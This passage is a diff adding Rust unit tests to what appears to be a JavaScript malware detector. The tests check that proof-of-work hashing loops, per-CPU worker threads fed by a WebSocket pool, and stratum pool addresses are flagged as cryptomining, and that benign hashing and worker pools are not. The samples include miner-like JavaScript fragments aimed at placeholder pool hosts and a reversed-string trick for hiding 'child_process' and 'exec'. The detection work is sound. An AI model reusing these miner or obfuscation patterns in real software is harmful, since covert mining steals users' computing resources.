         let ev = run(r#"const m = 'ssecorp_dlihc'.split('').reverse().join('');
 const f = String.fromCharCode(101, 120, 101, 99);
@@ -4882,6 +5692,75 @@ for (;;) { crypto.createHash("sha256").update(nonce++ + "").digest(); }"#);
             "for (;;) { if (done()) break; step(); }\nwhile (true) { const x = next(); if (!x) return; }",
         );
         assert!(find(&ev, Op::Loop).is_none(), "{ev:#?}");
+    }
+
+    #[test]
+    fn proof_of_work_loop_is_mining() {
+        let ev = run(r#"const crypto = require("crypto");
+const { job, target } = workerData;
+let nonce = 0;
+for (;;) {
+  const h = crypto.createHash("sha256").update(job + nonce).digest("hex");
+  if (h < target) parentPort.postMessage({ nonce, h });
+  nonce++;
+}"#);
+        let m = find(&ev, Op::Mining).expect("mining");
+        assert_eq!(m.location.start_line, 4, "{m:#?}");
+        let ev = run(r#"const crypto = require("crypto"); let n = 0;
+while (true) { if (crypto.createHash("sha256").update(prefix + (++n)).digest("hex").startsWith("0000")) send(n); }"#);
+        assert!(find(&ev, Op::Mining).is_some(), "{ev:#?}");
+        // Hashcash that stops when solved, hashing without a nonce, a
+        // dedupe pass over files: not mining.
+        for code in [
+            r#"const crypto = require("crypto"); let nonce = 0;
+for (;;) { const h = crypto.createHash("sha256").update(challenge + nonce).digest("hex"); if (h.startsWith("0000")) return nonce; nonce++; }"#,
+            r#"const crypto = require("crypto"); let i = 0;
+for (;;) { const h = crypto.createHash("sha256").update(next()).digest("hex"); if (h < best) best = h; i++; }"#,
+            r#"const crypto = require("crypto"); const seen = new Map();
+for (const f of files) { const h = crypto.createHash("sha256").update(fs.readFileSync(f)).digest("hex"); if (seen.has(h)) dupes.push(f); seen.set(h, f); }"#,
+        ] {
+            let ev = run(code);
+            assert!(find(&ev, Op::Mining).is_none(), "{code}\n{ev:#?}");
+        }
+    }
+
+    #[test]
+    fn per_cpu_workers_fed_by_a_pool_are_mining() {
+        let ev = run(
+            r#"const os = require("os"); const { Worker } = require("worker_threads");
+const ws = new WebSocket("wss://hash-pool.cdn.example:14444/w");
+ws.onmessage = (m) => {
+  const n = os.cpus().length;
+  for (let i = 0; i < n; i++) { const w = new Worker("./w.js", { workerData: m.data }); w.unref(); }
+};"#,
+        );
+        let m = find(&ev, Op::Mining).expect("mining");
+        assert_eq!(m.target, "wss://hash-pool.cdn.example:14444");
+        assert_eq!(m.location.start_line, 5);
+        let ev = run(
+            r#"const cluster = require("cluster"); const net = require("net");
+os.cpus().forEach(() => cluster.fork());
+const s = net.connect(3333, "x.example"); const u = "tcp://198.51.100.9:3333";"#,
+        );
+        assert!(find(&ev, Op::Mining).is_some(), "{ev:#?}");
+        let ev = run(r#"const pool = "stratum+tcp://pool.example:3333"; start(pool);"#);
+        assert!(find(&ev, Op::Mining).is_some(), "{ev:#?}");
+        // A worker pool sized by the CPU count, with an ordinary socket or
+        // a pool host but no per-CPU workers: not mining.
+        for code in [
+            r#"const os = require("os"); const { Worker } = require("worker_threads");
+const size = Math.max(1, os.cpus().length - 1);
+const workers = [];
+for (let i = 0; i < size; i++) workers.push(new Worker(require.resolve("./resize.js")));
+const ws = new WebSocket("wss://events.example/progress");"#,
+            r#"const cluster = require("cluster");
+if (cluster.isPrimary) { for (let i = 0; i < require("os").cpus().length; i++) cluster.fork(); }
+const db = "tcp://db.example:5432";"#,
+            r#"const ws = new WebSocket("wss://pool.example:3333/feed"); ws.onmessage = (m) => render(m.data);"#,
+        ] {
+            let ev = run(code);
+            assert!(find(&ev, Op::Mining).is_none(), "{code}\n{ev:#?}");
+        }
     }
 
     #[test]
